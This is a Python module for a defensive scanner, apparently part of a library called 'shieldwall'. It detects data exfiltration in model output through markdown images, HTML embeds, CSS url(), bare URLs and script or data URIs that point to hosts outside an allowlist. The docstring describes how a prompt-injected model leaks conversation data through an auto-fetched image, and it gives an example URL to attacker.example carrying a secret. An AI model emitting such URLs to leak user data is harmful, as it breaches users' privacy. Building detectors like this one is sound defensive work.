"""Data exfiltration through model output: images, embeds and links to hosts outside an allowlist.

A model that was prompt-injected can leak conversation data by emitting a markdown image whose URL
carries the data (``![](https://attacker.example/log?q=<secret>)``): the chat client fetches it without
any click. Links, HTML embeds, CSS ``url()`` and bare URLs are weaker channels. This scanner finds those
constructs in model output, resolves the host each one talks to (with ``urllib.parse``, after the same
clean-ups a browser applies), ignores allowlisted hosts and scores the rest by channel and by whether the
URL carries data.
"""

from __future__ import annotations

import bisect
import html
import ipaddress
import math
import re
from collections import Counter
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import ClassVar
from urllib.parse import unquote, unquote_plus

from shieldwall.core.scanner import ScanContext
from shieldwall.core.types import Category, Direction, Finding, Role, Segment, Span
from shieldwall.scanners._urls import HostAllowlist, WebUrl, web_host

__all__ = ["ExfiltrationScanner"]

_MAX_URL = 8192  # characters of a URL analysed (longer URLs are truncated for analysis, still reported)
_MAX_CANDIDATES = 512  # constructs analysed per segment
_MAX_HISTORY = 262_144  # characters of the conversation compared with URL data

# --- candidate extraction (every pattern is linear: bounded classes, no nested ambiguity) ------------

_MD_DEST = re.compile(r"[ \t]{0,16}\n?[ \t]{0,16}(?:<([^<>\n]{0,8192})>|((?:[^\s()<>]|\([^\s()<>]{0,256}\)){1,8192}))")
_MD_RUN = re.compile(r"[^\s()<>]*")
_MD_TAIL = re.compile(
    r"""[ \t]{0,16}\n?[ \t]{0,16}(?:"[^"\n]{0,512}"|'[^'\n]{0,512}'|\([^()\n]{0,512}\))?[ \t]{0,16}\)"""
)
_MD_DEF = re.compile(
    r"^[ ]{0,3}\[([^\[\]\n]{1,999})\]:[ \t]{0,16}\n?[ \t]{0,16}(?:<([^<>\n]{0,8192})>|(\S{1,8192}))",
    re.MULTILINE,
)
_MD_REF_USE = re.compile(r"(!?)\[([^\[\]\n]{0,999})\](?:\[([^\[\]\n]{0,999})\])?")
_EMBED_TAGS = (
    "img|image|iframe|frame|script|link|source|video|audio|embed|object|input|body|table|td|th|"
    "svg|use|track|picture|meta|base|a|area|form|button"
)
_TAG = re.compile(rf"<[ \t]{{0,4}}({_EMBED_TAGS})(?=[\s/>])([^<>]{{0,4096}})", re.IGNORECASE)
_ATTR = re.compile(
    r"""([a-zA-Z:-]{1,32})[ \t\n]{0,8}=[ \t\n]{0,8}(?:"([^"]{0,8192})"|'([^']{0,8192})'|([^\s"'>]{1,8192}))"""
)
_URL_ATTRS = frozenset(
    {"src", "href", "data", "action", "formaction", "poster", "background", "srcset", "xlink:href",
     "lowsrc", "dynsrc", "ping", "content", "codebase", "archive", "longdesc", "cite", "manifest"}
)  # fmt: skip
_CLICK_TAGS = frozenset({"a", "area", "form", "button"})
_CSS_URL = re.compile(
    r"""(?:url\([ \t]{0,16}(?:"([^"\n]{0,8192})"|'([^'\n]{0,8192})'|([^\s()'"]{0,8192}))"""
    r"""|@import[ \t]{1,16}["']([^"'\n]{1,8192})["'])""",
    re.IGNORECASE,
)
_URL_BODY = re.compile(r"""[^\s<>"'`{}|^]{0,8192}""")
_DOMAIN_AHEAD = re.compile(r"(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}\b", re.IGNORECASE)
_RAW_SCHEMES = frozenset({"http", "https", "ftp", "ftps", "sftp", "ws", "wss"})
_NOT_BEFORE_PR = frozenset("/:.@\\-_")  # before a protocol-relative "//" (besides letters and digits)
_DATA_URI = re.compile(
    r"\bdata:([a-z]{1,24}/[a-z0-9.+-]{1,64})((?:;[a-z0-9=.+-]{1,64}){0,4}),[^\s\"'<>()]{0,65536}",
    re.IGNORECASE,
)
_TRAILING = ".,;:!?*_~'\""
_CTRL_WS = re.compile(r"[\x00-\x20\x7f]+")

# --- URL analysis ---------------------------------------------------------------------------------

_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "livescript:")
_DANGEROUS_DATA = frozenset(
    {"text/html", "application/xhtml+xml", "image/svg+xml", "text/javascript", "application/javascript",
     "application/x-javascript", "text/xml", "application/xml"}
)  # fmt: skip
_CC_SLD = frozenset({"co", "com", "net", "org", "gov", "ac", "edu", "or", "ne", "go", "gob", "mil"})
_B64 = re.compile(r"[A-Za-z0-9+/_-]+={0,2}")
_HEX = re.compile(r"[0-9a-fA-F]+")
_B32 = re.compile(r"[A-Z2-7]+=*")
_TOKENS = re.compile(r"[\w.@+-]{6,64}")


def _entropy(s: str) -> float:
    n = len(s)
    if n == 0:
        return 0.0
    return -sum(c / n * math.log2(c / n) for c in Counter(s).values())


def _looks_encoded(v: str, min_len: int, *, hex_ok: bool) -> bool:
    """Base64/base32/hex-looking (a payload rather than a word, a slug or an id)."""
    if len(v) < min_len:
        return False
    v = v[:512]
    if _HEX.fullmatch(v):
        return hex_ok and any(c.isdigit() for c in v) and any(c.isalpha() for c in v)
    if _B32.fullmatch(v) and sum(c.isdigit() for c in v) >= 2:
        return True
    if _B64.fullmatch(v):
        up = any(c.isupper() for c in v)
        low = any(c.islower() for c in v)
        dig = any(c.isdigit() for c in v)
        return up and low and dig and _entropy(v) >= 3.5
    return False


def _random_label(label: str) -> bool:
    n = len(label)
    if n >= 32:
        return True
    digits = sum(c.isdigit() for c in label)
    if n >= 16 and _HEX.fullmatch(label) and digits >= 2 and n - digits >= 2:
        return True
    return n >= 20 and digits >= 4


def _distinctive(tok: str) -> bool:
    """A token worth matching against the conversation: an address, a number-bearing id, a random string."""
    if "@" in tok and "." in tok:
        return True
    digits = sum(c.isdigit() for c in tok)
    if digits >= 4 or (digits >= 2 and len(tok) >= 8):
        return True
    return len(tok) >= 12 and _entropy(tok) >= 3.5


@dataclass(frozen=True, slots=True)
class _Candidate:
    kind: str  # "image", "embed", "link", "raw"
    span: tuple[int, int]
    url: str
    what: str  # for the message: "markdown image", "HTML <iframe>", ...
    construct: bool = True  # a markdown/HTML construct (entities decoded, script URLs count)


class _History:
    """The conversation's other segments, lower-cased once per scan and only when needed."""

    __slots__ = ("_ctx", "_text")

    def __init__(self, ctx: ScanContext) -> None:
        self._ctx = ctx
        self._text: str | None = None

    def text(self) -> str:
        if self._text is None:
            parts: list[str] = []
            size = 0
            for seg in self._ctx.history:
                parts.append(seg.text[: _MAX_HISTORY - size])
                size += len(parts[-1])
                if size >= _MAX_HISTORY:
                    break
            self._text = "\n".join(parts).lower()
        return self._text

    def contains(self, value: str, *, sensitive: bool) -> bool:
        if not self._ctx.history:
            return False
        v = value.strip().lower()
        if len(v) < 6:
            return False
        hist = self.text()
        if len(v) >= 24 and v[:256] in hist:
            return True
        for tok in _TOKENS.findall(v[:1024])[:32]:
            if ((sensitive and len(tok) >= 8) or _distinctive(tok)) and tok in hist:
                return True
        return False


_FROM_HISTORY = "history"
_SCORES: Mapping[str, tuple[str, float, float]] = {
    "image": ("exfiltration.markdown_image", 0.9, 0.97),
    "embed": ("exfiltration.html_embed", 0.9, 0.97),
    "link": ("exfiltration.markdown_link", 0.5, 0.85),
    "raw": ("exfiltration.raw_url", 0.3, 0.8),
}


class ExfiltrationScanner:
    """Markdown images and links, HTML embeds and URLs that send data to non-allowlisted hosts.

    Finds, in model output: inline and reference-style markdown images and links, HTML elements that load
    or link a URL (``img``, ``iframe``, ``script``, ``link``, ``a``, ``source``, ``object``, ``meta`` refresh,
    ...), CSS ``url()`` / ``@import``, bare URLs (http, https, ftp, ws and protocol-relative ``//host``),
    ``data:`` URIs and ``javascript:`` URLs. Hosts in ``allowed_hosts`` (exact, or ``*.example.com`` for its
    subdomains) produce nothing. A URL "carries data" when its query has long or encoded values or many
    parameters, a path segment or a subdomain label looks like an encoded payload, or a value repeats
    distinctive text from the conversation (``ctx.history``: an e-mail address, a key, a number).

    Rules: ``exfiltration.markdown_image`` (0.9, 0.97 with data), ``exfiltration.html_embed`` (0.9, 0.97),
    ``exfiltration.markdown_link`` (0.5, 0.85), ``exfiltration.raw_url`` (0.3, 0.8),
    ``exfiltration.data_uri`` (0.6; 0.9 for HTML/SVG/script types), ``exfiltration.javascript_url`` (0.95).
    Evidence is the host only.
    """

    name: ClassVar[str] = "exfiltration"
    categories: ClassVar[frozenset[Category]] = frozenset({Category.EXFILTRATION})
    directions: ClassVar[frozenset[Direction]] = frozenset({Direction.OUTPUT})
    roles: ClassVar[frozenset[Role]] = frozenset({Role.ASSISTANT, Role.TOOL_CALL})
    rules: ClassVar[Mapping[str, str]] = {
        "exfiltration.markdown_image": "markdown image (fetched automatically) from a non-allowlisted host",
        "exfiltration.html_embed": "HTML element or CSS url() that loads a resource from a non-allowlisted host",
        "exfiltration.markdown_link": "clickable markdown or HTML link to a non-allowlisted host",
        "exfiltration.raw_url": "bare URL to a non-allowlisted host",
        "exfiltration.data_uri": "data: URI in the output (HTML, SVG or script types score higher)",
        "exfiltration.javascript_url": "javascript: or vbscript: URL in a link, image or HTML attribute",
    }

    def __init__(self, *, allowed_hosts: Sequence[str] = ()) -> None:
        self._allow = HostAllowlist(allowed_hosts, owner="exfiltration")
        self.allowed_hosts = tuple(allowed_hosts)

    # -- extraction -----------------------------------------------------------------------------------

    def scan(self, segment: Segment, ctx: ScanContext) -> list[Finding]:
        t = segment.text
        # cheap pre-checks: single characters first (memchr), then the two-character markers
        bracket = "[" in t
        md = bracket and "](" in t
        refdef = bracket and "]:" in t
        tag = "<" in t
        slash = "/" in t and "//" in t
        paren = "(" in t
        css = (paren and ("rl(" in t or "RL(" in t)) or ("@" in t and "@import" in t)
        data = ":" in t and ("ata:" in t or "ATA:" in t)
        if not (md or refdef or tag or slash or css or data):
            return []
        cands: list[_Candidate] = []
        if md:
            self._markdown_inline(t, cands)
        if refdef:
            self._markdown_refs(t, cands)
        if tag:
            self._html(t, cands)
        if css:
            self._css(t, cands)
        claimed = sorted(c.span for c in cands)
        if slash:
            self._raw(t, cands, claimed)
        if data:
            self._data_uris(t, cands, claimed)
        history = _History(ctx)
        findings: list[Finding] = []
        seen: set[tuple[int, int, str]] = set()
        for c in cands[:_MAX_CANDIDATES]:
            f = self._assess(c, history)
            if f is None or f.span is None:
                continue
            key = (f.span.start, f.span.end, f.rule)
            if key not in seen:
                seen.add(key)
                findings.append(f)
        return findings

    @staticmethod
    def _markdown_inline(t: str, cands: list[_Candidate]) -> None:
        i = t.find("](")
        n = 0
        while i != -1 and n < _MAX_CANDIDATES:
            n += 1
            m = _MD_DEST.match(t, i + 2, min(len(t), i + 2 + 8240))
            nxt = i + 2
            if m is not None:
                url = m.group(1) if m.group(1) is not None else (m.group(2) or "")
                end = m.end()
                if m.group(2) is not None and len(url) >= _MAX_URL:  # very long: analyse a prefix, span it all
                    run = _MD_RUN.match(t, end)
                    end = run.end() if run else end
                tail = _MD_TAIL.match(t, end, min(len(t), end + 600))
                if tail is not None and url:
                    opener = _find_opener(t, i)
                    if opener is not None:
                        image = opener > 0 and t[opener - 1] == "!" and (opener < 2 or t[opener - 2] != "\\")
                        start = opener - 1 if image else opener
                        kind, what = ("image", "markdown image") if image else ("link", "markdown link")
                        cands.append(_Candidate(kind, (start, tail.end()), url, what))
                        nxt = tail.end()
            i = t.find("](", nxt)

    @staticmethod
    def _markdown_refs(t: str, cands: list[_Candidate]) -> None:
        defs = []
        for m in _MD_DEF.finditer(t):
            defs.append(m)
            if len(defs) >= 64:
                break
        if not defs:
            return
        images: set[str] = set()
        for used, u in enumerate(_MD_REF_USE.finditer(t)):
            if used > 4 * _MAX_CANDIDATES:
                break
            if u.group(1) and not t.startswith(":", u.end()):
                label = u.group(3) if u.group(3) else u.group(2)
                images.add(" ".join(label.lower().split()))
        for d in defs:
            label = " ".join(d.group(1).lower().split())
            url = d.group(2) if d.group(2) is not None else d.group(3)
            if label in images:
                cands.append(_Candidate("image", d.span(), url, "reference-style markdown image"))
            else:
                cands.append(_Candidate("link", d.span(), url, "markdown link reference"))

    @staticmethod
    def _html(t: str, cands: list[_Candidate]) -> None:
        n = 0
        for m in _TAG.finditer(t):
            tag = m.group(1).lower()
            attrs = m.group(2)
            end = m.end() + 1 if t.startswith(">", m.end()) else m.end()
            http_equiv_refresh = tag == "meta" and "refresh" in attrs.lower()
            for a in _ATTR.finditer(attrs):
                name = a.group(1).lower()
                if name not in _URL_ATTRS:
                    continue
                value = a.group(2) if a.group(2) is not None else a.group(3) if a.group(3) is not None else a.group(4)
                if value is None:
                    continue
                if name == "content":
                    if not http_equiv_refresh:
                        continue
                    k = value.lower().find("url=")
                    if k == -1:
                        continue
                    value = value[k + 4 :].strip("'\" ")
                urls = [value]
                if name in ("srcset", "archive"):
                    urls = [p.strip().split(" ")[0] for p in value.split(",")[:16] if p.strip()]
                kind = "link" if tag in _CLICK_TAGS or name == "ping" else "embed"
                for u in urls:
                    cands.append(_Candidate(kind, (m.start(), end), u, f"HTML <{tag} {name}>"))
                    n += 1
            if n >= _MAX_CANDIDATES:
                break

    @staticmethod
    def _css(t: str, cands: list[_Candidate]) -> None:
        for n, m in enumerate(_CSS_URL.finditer(t)):
            if n >= _MAX_CANDIDATES:
                break
            url = next((g for g in m.groups() if g is not None), "")
            end = m.end() + 1 if t.startswith(")", m.end()) else m.end()
            cands.append(_Candidate("embed", (m.start(), end), url, "CSS url()"))

    @staticmethod
    def _raw(t: str, cands: list[_Candidate], claimed: list[tuple[int, int]]) -> None:
        starts = [s for s, _ in claimed]
        i = t.find("//")
        n = 0
        while i != -1 and n < 4 * _MAX_CANDIDATES:
            n += 1
            start = -1
            if i > 0 and t[i - 1] == ":":
                k = i - 1
                while k > 0 and i - 1 - k < 5 and t[k - 1].isascii() and t[k - 1].isalpha():
                    k -= 1
                if t[k : i - 1].lower() in _RAW_SCHEMES and (k == 0 or not t[k - 1].isalnum()):
                    start = k
            elif (i == 0 or not (t[i - 1].isalnum() or t[i - 1] in _NOT_BEFORE_PR)) and _DOMAIN_AHEAD.match(
                t, i + 2, i + 600
            ):
                start = i
            if start == -1:
                i = t.find("//", i + 2)
                continue
            m = _URL_BODY.match(t, i + 2)
            end = m.end() if m else i + 2
            if not _inside(starts, claimed, start):
                url = _trim(t[start:end])
                if url:
                    cands.append(_Candidate("raw", (start, start + len(url)), url, "URL", construct=False))
            i = t.find("//", max(end, i + 2))

    @staticmethod
    def _data_uris(t: str, cands: list[_Candidate], claimed: list[tuple[int, int]]) -> None:
        starts = [s for s, _ in claimed]
        for n, m in enumerate(_DATA_URI.finditer(t)):
            if n >= _MAX_CANDIDATES:
                break
            if _inside(starts, claimed, m.start()):
                continue
            cands.append(_Candidate("raw", m.span(), m.group(), "data: URI", construct=False))

    # -- assessment -----------------------------------------------------------------------------------

    def _assess(self, c: _Candidate, history: _History) -> Finding | None:
        url = c.url[:_MAX_URL]
        if c.construct and "&" in url:
            url = html.unescape(url)
        probe = _CTRL_WS.sub("", url[:64]).lower()
        if probe.startswith("data:"):
            mime = probe[5:].split(";", 1)[0].split(",", 1)[0]
            danger = mime in _DANGEROUS_DATA
            return self._finding(
                "exfiltration.data_uri",
                0.9 if danger else 0.6,
                f"data: URI ({mime or 'no type'}) in {c.what}" if c.construct else f"data: URI ({mime or 'no type'})",
                c.span,
                None,
            )
        if c.construct and probe.startswith(_SCRIPT_SCHEMES):
            scheme = probe.split(":", 1)[0]
            return self._finding("exfiltration.javascript_url", 0.95, f"{scheme}: URL in {c.what}", c.span, None)
        resolved = web_host(url)
        if resolved is None:
            return None
        host = resolved.host
        if host in self._allow:
            return None
        sensitive = c.kind in ("image", "embed")
        reasons, shown = _data_reasons(resolved, history, sensitive=sensitive)
        rule, base, with_data = _SCORES[c.kind]
        msg = f"{c.what} to non-allowlisted host {shown}"
        where = [r for r in reasons if r != _FROM_HISTORY]
        if where:
            msg += " with data in " + ", ".join(where)
        if _FROM_HISTORY in reasons:
            msg += (" and" if where else "") + " carrying text from the conversation"
        return self._finding(rule, with_data if reasons else base, msg, c.span, shown)

    def _finding(self, rule: str, score: float, message: str, span: tuple[int, int], host: str | None) -> Finding:
        return Finding(
            scanner=self.name,
            rule=rule,
            category=Category.EXFILTRATION,
            score=score,
            message=message[:300],
            span=Span(*span),
            evidence=host[:64] if host else None,
        )


def _data_reasons(u: WebUrl, history: _History, *, sensitive: bool) -> tuple[list[str], str]:
    """Why the URL looks like it carries data, and the host as shown (data-bearing labels masked)."""
    reasons: list[str] = []
    host, query, path = u.host, u.query, u.path
    long_value = 24 if sensitive else 64
    many = 6 if sensitive else 10
    from_history = False
    if query:
        pairs = query.split("&")
        values = []
        for p in pairs[:64]:
            k, eq, v = p.partition("=")
            values.append(unquote_plus(v if eq else k))
        q_data = len(pairs) >= many or any(
            len(v) >= long_value or _looks_encoded(v, 16 if sensitive else 20, hex_ok=True) for v in values
        )
        if not from_history:
            from_history = any(history.contains(v, sensitive=sensitive) for v in values[:16])
        if q_data:
            reasons.append("query")
    if path and path != "/":
        segs = [unquote(s) for s in path.split("/")[1:33] if s]
        p_data = any(
            _looks_encoded(s, 16 if sensitive else 24, hex_ok=sensitive) or (len(s) >= 20 and " " in s) for s in segs
        )
        if not from_history:
            from_history = any(history.contains(s, sensitive=sensitive) for s in segs[:16])
        if p_data:
            reasons.append("path")
    shown = host
    if not _is_ip(host):
        labels = host.split(".")
        keep = 3 if len(labels) >= 3 and labels[-2] in _CC_SLD and len(labels[-1]) == 2 else 2
        subs = labels[:-keep]
        if subs:
            bad = [_random_label(lab) or (len(lab) >= 6 and history.contains(lab, sensitive=False)) for lab in subs]
            if any(bad):
                reasons.append("subdomain")
                shown = ".".join(["…" if b else lab for lab, b in zip(subs, bad, strict=True)] + labels[-keep:])
    if from_history:
        reasons.append(_FROM_HISTORY)
    return reasons, shown


def _is_ip(host: str) -> bool:
    if not host or not (host[0].isdigit() or ":" in host):
        return False
    try:
        ipaddress.ip_address(host)
    except ValueError:
        return False
    return True


def _find_opener(t: str, close: int) -> int | None:
    """Index of the ``[`` that balances the ``]`` at ``close`` (bounded look-back), or None."""
    lo = max(0, close - 1024)
    j = close
    for _ in range(64):
        i = t.rfind("[", lo, j)
        if i == -1:
            return None
        if t.count("[", i + 1, close) == t.count("]", i + 1, close):
            return i
        j = i
    return None


def _inside(starts: list[int], spans: list[tuple[int, int]], pos: int) -> bool:
    k = bisect.bisect_right(starts, pos) - 1
    # spans can nest (an HTML tag and a CSS url() inside it): look back a few
    for j in range(k, max(-1, k - 8), -1):
        s, e = spans[j]
        if s <= pos < e:
            return True
    return False


def _trim(url: str) -> str:
    """A bare URL without trailing punctuation and unbalanced closing brackets."""
    parens = url.count("(") - url.count(")")
    brackets = url.count("[") - url.count("]")
    while url:
        last = url[-1]
        if last in _TRAILING:
            url = url[:-1]
        elif last == ")" and parens < 0:
            url = url[:-1]
            parens += 1
        elif last == "]" and brackets < 0:
            url = url[:-1]
            brackets += 1
        else:
            break
    return url if len(url) > 2 and not url.endswith("//") else ""
